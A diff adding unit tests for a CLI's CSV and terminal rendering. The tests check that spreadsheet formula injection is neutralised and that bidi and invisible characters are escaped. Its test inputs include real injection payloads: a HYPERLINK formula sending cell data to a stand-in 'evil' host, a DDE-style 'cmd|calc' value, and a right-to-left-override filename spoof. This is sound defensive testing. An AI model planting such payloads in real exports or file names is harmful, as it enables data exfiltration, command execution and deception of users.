@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { terminalText } from '../../client/cli/terminal-text.js';
 import { cellText, csvField, displayWidth, fitColumns, renderCsv, renderJson, renderTable, truncate, type RenderTable } from '../../client/cli/render.js';
 import { appendTable } from '../../client/cli/output.js';
 
@@ -94,6 +95,35 @@ describe('renderCsv', () => {
         expect(csvField(true)).toBe('true');
         expect(csvField(null)).toBe('');
     });
+
+    // OWASP's rule for CSV injection: a cell a spreadsheet would take as a formula starts with a quote.
+    it.each([
+        ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
+        ['+1+cmd|calc', "'+1+cmd|calc"],
+        ['-2+3', "'-2+3"],
+        ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+        ['\t=1', "'\t=1"],
+        ['\r=1', `"'\r=1"`],
+        ['＝1+1', "'＝1+1"],
+    ])('a text cell %j is written as %s', (value, expected) => {
+        expect(csvField(value)).toBe(expected);
+        expect(csvField(value, false).startsWith("'") || csvField(value, false).startsWith(`"'`)).toBe(false);
+    });
+
+    it('numbers stay exact: a number value, and a text that is just a number, get no quote', () => {
+        expect(csvField(-5)).toBe('-5');
+        expect(csvField(-1.5e-7)).toBe('-1.5e-7');
+        expect(csvField('-5')).toBe('-5');
+        expect(csvField('+3.25')).toBe('+3.25');
+        expect(csvField('-')).toBe("'-");
+        expect(csvField('safe=text')).toBe('safe=text');
+    });
+
+    it('field names are guarded too, and { exact: true } writes the data as it is', () => {
+        const hostile: RenderTable = { fields: [{ name: '=cmd' }, { name: 'n' }], columns: [['@x', '-1+1'], [-3, 4]] };
+        expect(renderCsv(hostile)).toBe("'=cmd,n\n'@x,-3\n'-1+1,4\n");
+        expect(renderCsv(hostile, { exact: true })).toBe('=cmd,n\n@x,-3\n-1+1,4\n');
+    });
 });
 
 describe('cellText', () => {
@@ -102,6 +132,27 @@ describe('cellText', () => {
         expect(cellText('\u001b[31mred\u0007\u009b')).toBe('\\033[31mred\\a\\233');
         expect(cellText(null)).toBe('');
         expect(cellText([1, 2])).toBe('[1,2]');
+    });
+});
+
+describe('bidi and invisible characters in terminal output', () => {
+    it.each([
+        ['invoice\u202Egnp.exe', 'invoice\\u202Egnp.exe'],
+        ['\u2066\u2067\u2068\u2069\u200E\u200F\u061C', '\\u2066\\u2067\\u2068\\u2069\\u200E\\u200F\\u061C'],
+        ['a\u200Bb\uFEFFc\u2028d', 'a\\u200Bb\\uFEFFc\\u2028d'],
+    ])('%j is shown as %s in a table and in messages', (value, shown) => {
+        expect(terminalText(value)).toBe(shown);
+        expect(cellText(value)).toBe(shown);
+        const table: RenderTable = { fields: [{ name: value }], columns: [[value]] };
+        const text = renderTable(table, { width: 200 });
+        expect(text).toContain(shown);
+        expect(text).not.toMatch(/[\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/);
+    });
+
+    it('CSV for a terminal shows them too; CSV into a file keeps them', () => {
+        const table: RenderTable = { fields: [{ name: 'f' }], columns: [['a\u202Eb']] };
+        expect(renderCsv(table, { terminal: true })).toBe('f\na\\u202Eb\n');
+        expect(renderCsv(table)).toBe('f\na\u202Eb\n');
     });
 });
 
